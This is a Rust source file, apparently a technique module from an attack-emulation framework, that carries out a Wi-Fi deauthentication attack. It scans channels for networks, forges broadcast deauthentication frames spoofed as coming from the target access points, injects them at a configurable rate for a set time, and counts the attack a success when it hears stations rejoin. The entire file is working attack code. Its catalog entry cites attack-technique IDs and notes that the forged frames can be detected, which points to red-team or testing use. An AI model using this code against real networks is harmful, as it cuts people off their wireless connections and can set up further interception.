//! Sends stations away from their access points with forged frames.

use super::listen_radio::{ask_networks, note};
use super::{Params, Progress, Step, Technique};
use crate::catalog::{Entry, Parameter, ParameterKind};
use crate::net::port::Input;
use crate::time::Duration;
use crate::wire::Mac;
use crate::wire::dot11::{Dot11, Dot11Body};

/// Technique `deauthenticate`.
#[derive(Debug)]
pub(super) struct Deauthenticate;

static ENTRY: Entry = Entry {
    id: "deauthenticate",
    title: "Forge deauthentication frames",
    summary: "Sends frames that claim to come from the access points of a network and tell every station in range to leave, at a rate, access point \
              after access point. A station that does not ask for protected management frames leaves and joins again. Succeeds if stations were heard \
              to join again. It first asks on each channel which networks there are, unless it knows. A sensor on the channel sees frames from an \
              access point that the access point did not send.",
    parameters: &[
        Parameter {
            name: "network",
            kind: ParameterKind::Network,
            required: false,
            doc: "network; all that it can hear if not given",
        },
        Parameter {
            name: "access_points",
            kind: ParameterKind::Integer,
            required: false,
            doc: "how many of them, strongest first, a network at an access point counting as one; all if not given",
        },
        Parameter {
            name: "rate_per_second",
            kind: ParameterKind::Number,
            required: false,
            doc: "frames per second, over all access points; 10 if not given",
        },
        Parameter {
            name: "for",
            kind: ParameterKind::Duration,
            required: false,
            doc: "how long; 5m if not given",
        },
    ],
    references: &["T1498.001", "T0814", "domain notes 3.5"],
};

const DWELL: Duration = Duration::from_millis(50);
const TOKEN_LOOK: u32 = 1;
const TOKEN_SEND: u32 = 2;
const TOKEN_END: u32 = 3;
const CHANNELS: u32 = 13;
/// Class 3 frame from a station that is not associated.
const REASON: u16 = 7;

fn over(params: &Params) -> Duration {
    params.duration("for").unwrap_or(Duration::from_mins(5))
}

/// A frame that tells everybody to leave this access point.
pub(super) fn forged(bssid: Mac) -> Dot11 {
    Dot11 {
        ta: bssid,
        ra: Mac::BROADCAST,
        bssid,
        body: Dot11Body::Deauthentication {
            reason: REASON,
            mic: None,
        },
    }
}

/// Looks on the next channel, or begins to send.
fn look(step: &mut Step<'_, '_, '_>) -> Progress {
    step.state.tries += 1;
    if step.state.tries <= CHANNELS {
        ask_networks(step, step.state.tries as u8);
        step.hands.timer(DWELL, TOKEN_LOOK);
        return Progress::Wait;
    }
    if step
        .knowledge
        .radio
        .named(step.params.text("network"))
        .next()
        .is_none()
    {
        return Progress::Failed("no such network on the air");
    }
    step.state.tries = 0;
    step.hands.timer(over(step.params), TOKEN_END);
    send(step);
    Progress::Reached(1)
}

fn send(step: &mut Step<'_, '_, '_>) {
    let rate = step.params.factor("rate_per_second").unwrap_or(10.0);
    let named = step.knowledge.radio.named(step.params.text("network"));
    let mut targets: Vec<(i8, Mac, u8)> = named.map(|n| (n.dbm, n.bssid, n.channel)).collect();
    targets.sort_by_key(|t| (-i16::from(t.0), t.1));
    let most = step.params.integer("access_points").unwrap_or(i64::MAX);
    targets.truncate(usize::try_from(most.max(1)).unwrap_or(usize::MAX));
    let (_, bssid, channel) = targets[step.state.tries as usize % targets.len()];
    step.state.tries += 1;
    step.hands.monitor(channel);
    step.hands.inject(forged(bssid));
    let pause = Duration::from_secs_f64(1.0 / rate.clamp(0.001, 10_000.0));
    step.hands.timer(pause, TOKEN_SEND);
}

impl Technique for Deauthenticate {
    fn entry(&self) -> &'static Entry {
        &ENTRY
    }

    fn stages(&self) -> &'static [&'static str] {
        &["look", "send", "stations leave"]
    }

    fn patience(&self, params: &Params) -> Duration {
        over(params) + Duration::from_mins(1)
    }

    fn act(&self, step: &mut Step<'_, '_, '_>, input: &Input) -> Progress {
        match input {
            Input::Begin => {
                if step
                    .knowledge
                    .radio
                    .named(step.params.text("network"))
                    .next()
                    .is_some()
                {
                    step.state.tries = CHANNELS;
                }
                look(step)
            }
            Input::Timer(TOKEN_LOOK) => look(step),
            Input::Timer(TOKEN_SEND) => {
                send(step);
                Progress::Wait
            }
            Input::Timer(TOKEN_END) => {
                step.hands.stop_monitoring();
                if step.state.stage >= 2 {
                    Progress::Done("stations left and joined again")
                } else {
                    Progress::Failed("no station left")
                }
            }
            Input::Overheard(heard) => {
                note(step, heard);
                let joins = matches!(
                    heard.frame.body,
                    Dot11Body::Authentication { sequence: 1, .. }
                );
                if joins && step.state.stage == 1 {
                    step.hands.learned("that stations leave");
                    return Progress::Reached(2);
                }
                Progress::Wait
            }
            _ => Progress::Wait,
        }
    }
}
